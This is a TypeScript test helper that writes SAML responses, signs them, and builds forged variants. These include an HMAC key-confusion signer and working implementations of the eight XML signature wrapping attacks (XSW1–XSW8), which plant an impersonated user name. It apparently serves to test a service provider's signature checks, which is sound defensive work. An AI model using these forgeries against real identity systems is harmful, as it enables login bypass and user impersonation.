import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { SignedXml } from 'xml-crypto'

/** What a made-up response says; a member that is null is left out. */
export type Claimed = {
  responseId: string
  assertionId: string
  /** In the response around the assertion. */
  inResponseTo: string | null
  /** In the assertion. */
  confirms: string | null
  destination: string | null
  issuer: string
  audience: string | null
  recipient: string | null
  notBefore: string | null
  notOnOrAfter: string | null
  confirmedUntil: string | null
  /** Inner XML of NameID. */
  name: string
  method: string
  /** Further elements of the assertion: after the conditions. */
  statements: string
  status: string
  /** Between the status and the assertion; Extensions stand before the status. */
  extensions: string
}

const names = {
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
}

/** An instant so many seconds from now. */
export const inSeconds = (seconds: number) => new Date(Date.now() + seconds * 1000).toISOString()

/** A response as an identity provider would write it, not signed yet. */
export function writeResponse(claimed: Claimed): string {
  const { responseId, inResponseTo, destination, issuer, status, extensions } = claimed
  return [
    `<samlp:Response xmlns:samlp="${names.samlp}" xmlns:saml="${names.saml}" ID="${responseId}" Version="2.0"`,
    ` IssueInstant="${inSeconds(0)}"${attribute('InResponseTo', inResponseTo)}${attribute('Destination', destination)}>`,
    `<saml:Issuer>${issuer}</saml:Issuer>${extensions}`,
    `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${status}"/></samlp:Status>`,
    `${writeAssertion(claimed)}</samlp:Response>`,
  ].join('')
}

/** The assertion of such a response. */
export function writeAssertion(claimed: Claimed): string {
  const { assertionId, confirms, issuer, audience, recipient, notBefore, notOnOrAfter } = claimed
  return [
    `<saml:Assertion xmlns:saml="${names.saml}" ID="${assertionId}" Version="2.0" IssueInstant="${inSeconds(0)}">`,
    `<saml:Issuer>${issuer}</saml:Issuer><saml:Subject><saml:NameID>${claimed.name}</saml:NameID>`,
    `<saml:SubjectConfirmation Method="${claimed.method}"><saml:SubjectConfirmationData`,
    attribute('NotOnOrAfter', claimed.confirmedUntil),
    attribute('Recipient', recipient),
    attribute('InResponseTo', confirms),
    '/></saml:SubjectConfirmation></saml:Subject>',
    `<saml:Conditions${attribute('NotBefore', notBefore)}${attribute('NotOnOrAfter', notOnOrAfter)}>`,
    audience === null
      ? ''
      : `<saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction>`,
    `</saml:Conditions>${claimed.statements}</saml:Assertion>`,
  ].join('')
}

const attribute = (name: string, value: string | null) => (value === null ? '' : ` ${name}="${value}"`)

/** How something is signed. */
export type Signing = {
  key: string
  /** Put into KeyInfo; without one there is none. */
  certificate?: string
  algorithm?: string
  digest?: string
  transforms?: readonly string[]
  /** HMAC with this text as the key: of a receiver that takes the public key for a secret. */
  hmac?: string
}

const usual = {
  algorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  digest: 'http://www.w3.org/2001/04/xmlenc#sha256',
  canonical: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  enveloped: 'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
}

/** Signs the response or the assertion in it, as its ID says. */
export function signXml(xml: string, target: 'Response' | 'Assertion', signing: Signing): string {
  const { key, certificate, algorithm = usual.algorithm, digest = usual.digest, hmac } = signing
  const signer = new SignedXml({
    privateKey: hmac ?? key,
    ...(certificate !== undefined && { publicCert: certificate }),
    signatureAlgorithm: hmac === undefined ? algorithm : 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
    canonicalizationAlgorithm: usual.canonical,
  })
  if (hmac !== undefined) signer.enableHMAC()
  signer.addReference({
    xpath: `//*[local-name(.)='${target}']`,
    digestAlgorithm: digest,
    transforms: signing.transforms ?? [usual.enveloped, usual.canonical],
  })
  const reference = `//*[local-name(.)='${target}']/*[local-name(.)='Issuer']`
  signer.computeSignature(xml, { prefix: 'ds', location: { reference, action: 'after' } })
  return signer.getSignedXml()
}

/** As the form carries it. */
export const toField = (xml: string) => Buffer.from(xml).toString('base64')

/** The eight shapes of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012; SAML Raider's numbers). */
export const wrappings = {
  XSW1: wrapResponse((evil, original) => signatureOf(evil).appendChild(original)),
  XSW2: wrapResponse((evil, original) => evil.insertBefore(original, signatureOf(evil))),
  XSW3: wrapAssertion(({ response, original, evil }) => {
    signatureOf(evil).parentNode?.removeChild(signatureOf(evil))
    response.insertBefore(evil, original)
  }),
  XSW4: wrapAssertion(({ response, original, evil }) => {
    evil.removeChild(signatureOf(evil))
    response.replaceChild(evil, original)
    evil.appendChild(original)
  }),
  XSW5: wrapAssertion(({ response, original, evil }) => {
    response.replaceChild(evil, original)
    original.removeChild(signatureOf(original))
    response.appendChild(original)
  }),
  XSW6: wrapAssertion(({ response, original, evil }) => {
    response.replaceChild(evil, original)
    original.removeChild(signatureOf(original))
    signatureOf(evil).appendChild(original)
  }),
  XSW7: wrapAssertion(({ response, original, evil }) => {
    evil.removeChild(signatureOf(evil))
    const extensions = response.ownerDocument.createElementNS(names.samlp, 'samlp:Extensions')
    extensions.appendChild(evil)
    response.insertBefore(extensions, response.getElementsByTagNameNS(names.samlp, 'Status')[0] ?? original)
  }),
  XSW8: wrapAssertion(({ response, original, evil }) => {
    response.replaceChild(evil, original)
    original.removeChild(signatureOf(original))
    const object = response.ownerDocument.createElementNS(names.ds, 'ds:Object')
    object.appendChild(original)
    signatureOf(evil).appendChild(object)
  }),
} satisfies Record<string, (honest: string, name: string) => string>

/** The evil response carries the signature; the signed one, without it, stands somewhere a checker finds it by its ID. */
function wrapResponse(place: (evil: Element, original: Element) => unknown) {
  return (honest: string, name: string) => {
    const document = new DOMParser().parseFromString(honest, 'text/xml')
    const evil = document.documentElement
    const original = evil.cloneNode(true) as Element
    original.removeChild(signatureOf(original))
    evil.setAttribute('ID', '_evil_response')
    rename(evil, name)
    place(evil, original)
    return toXml(document)
  }
}

function wrapAssertion(place: (parts: { response: Element; original: Element; evil: Element }) => unknown) {
  return (honest: string, name: string) => {
    const document = new DOMParser().parseFromString(honest, 'text/xml')
    const response = document.documentElement
    const original = response.getElementsByTagNameNS(names.saml, 'Assertion')[0] as Element
    const evil = original.cloneNode(true) as Element
    evil.setAttribute('ID', '_evil_assertion')
    rename(evil, name)
    place({ response, original, evil })
    return toXml(document)
  }
}

const toXml = (document: Document) => new XMLSerializer().serializeToString(document)

function rename(within: Element, name: string): void {
  const nameId = within.getElementsByTagNameNS(names.saml, 'NameID')[0]
  if (nameId !== undefined) nameId.textContent = name
}

function signatureOf(element: Element): Element {
  const found = Array.from(element.childNodes).find((child) => (child as Element).localName === 'Signature')
  if (found === undefined) throw new Error(`${element.nodeName} is not signed`)
  return found as Element
}
